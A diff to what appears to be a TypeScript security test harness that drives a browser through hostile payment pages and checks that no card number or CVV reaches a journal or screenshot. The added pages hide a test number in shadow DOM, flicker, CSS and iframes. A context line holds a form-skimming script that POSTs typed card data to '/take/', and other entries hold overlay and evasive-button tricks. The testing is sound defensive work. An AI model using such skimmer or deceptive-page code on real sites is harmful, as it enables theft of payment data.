@@ -25,7 +25,7 @@ const NUMBER = '5383908528354962';
 const CODE = '8391';
 /** Seconds that the customer waits for one thing. */
 const PATIENCE = 2;
-/** Seconds that all the customer does here may take: nine waits, and the browser's own start and end. */
+/** Seconds that all the customer does here may take: ten waits, and the browser's own start and end. */
 const VISIT = 40;
 /** Seconds in which the browser has to be gone. */
 const GONE_WITHIN = 30;
@@ -174,6 +174,14 @@ const PAGES: Readonly<Record<string, HostilePage>> = {
   'a page that covers what it shows': () => `${FORM}<div style="position:fixed;inset:0;z-index:9"></div>`,
   'a button that runs away': () =>
     `${FORM}<script>setInterval(()=>{pay.style.cssText='position:fixed;left:'+Math.random()*500+'px;top:'+Math.random()*500+'px'})</script>`,
+  // Ways to have a number photographed before anything is typed.
+  'a number in its text': () => `${FORM}<p>${NUMBER}</p>`,
+  'a number digit by digit in a closed shadow': () =>
+    `${FORM}<p id="at"></p><script>at.attachShadow({mode:'closed'}).innerHTML='${[...NUMBER].map((digit) => `<i>${digit}</i>`).join('')}'</script>`,
+  'a number that comes and goes': () =>
+    `${FORM}<p id="at"></p><script>setInterval(()=>{at.textContent=at.textContent?'':'${NUMBER}'},1)</script>`,
+  'a number that a style writes': () => `${FORM}<style>form::after{content:"${NUMBER}"}</style>`,
+  'a number in a frame': () => `${FORM}<iframe srcdoc="<p>${NUMBER}</p>"></iframe>`,
   // Ways to have what was typed written down.
   'what was typed, sent home': () =>
     `${FORM}<script>setInterval(()=>{const n=number.value,c=code.value;if(!n)return;for(const t of [n,btoa(n),[...n].join(' '),encodeURIComponent(n.replace(/./g,(d)=>'%3'+d)),'cvv='+c,c])fetch('/take/'+t+'?t='+t,{method:'POST',body:JSON.stringify({note:t,cvv:c})}).catch(()=>{})},200)</script>`,
@@ -246,13 +254,26 @@ async function visit(executablePath: string, page: ReturnType<HostilePage>): Pro
   const browser = await chromium.launch({ executablePath, ...browserBehind(proxy.address) });
   try {
     const opened = await browser.newPage();
-    const customer = await CustomerBrowser.open({ page: opened, receiver, recorder, target, hurried: false });
+    const customer = await CustomerBrowser.open({
+      page: opened,
+      receiver,
+      recorder,
+      target,
+      hurried: false,
+      pictures: true,
+    });
     const done = await Promise.race([pay(customer, address), wait(VISIT * 1000, 'held', { ref: false })]);
     if (done === 'held') return `held its customer for ${VISIT} s`;
     const written = readFileSync(join(folder, JOURNAL), 'utf8');
     if (written.length > JOURNAL_GROWTH) return `${written.length} bytes of journal`;
     if (written.includes(NUMBER) || new RegExp(`(?<![\\d.])${CODE}(?![\\d.])`).test(written))
       return 'what was typed is in the journal';
+    if (
+      typeof page === 'string' &&
+      (page.includes(NUMBER) || page.replace(/<[^>]*>/g, '').includes(NUMBER)) &&
+      written.includes('"kind":"picture"')
+    )
+      return 'a page that shows a number is photographed';
     return await end(browser);
   } finally {
     await end(browser);
@@ -268,6 +289,7 @@ async function visit(executablePath: string, page: ReturnType<HostilePage>): Pro
 /** What a check does with a page. That nothing of it comes about is the page's affair, and said as that. */
 async function pay(customer: CustomerBrowser, address: string): Promise<void> {
   await customer.visit(address);
+  await customer.keepPicture('the payment form');
   try {
     const card = { number: NUMBER, code: CODE, month: '10', year: '2030', holder: 'ADA TEST' };
     await customer.enterCard({ number: '#number', code: '#code' } as never, card as never);
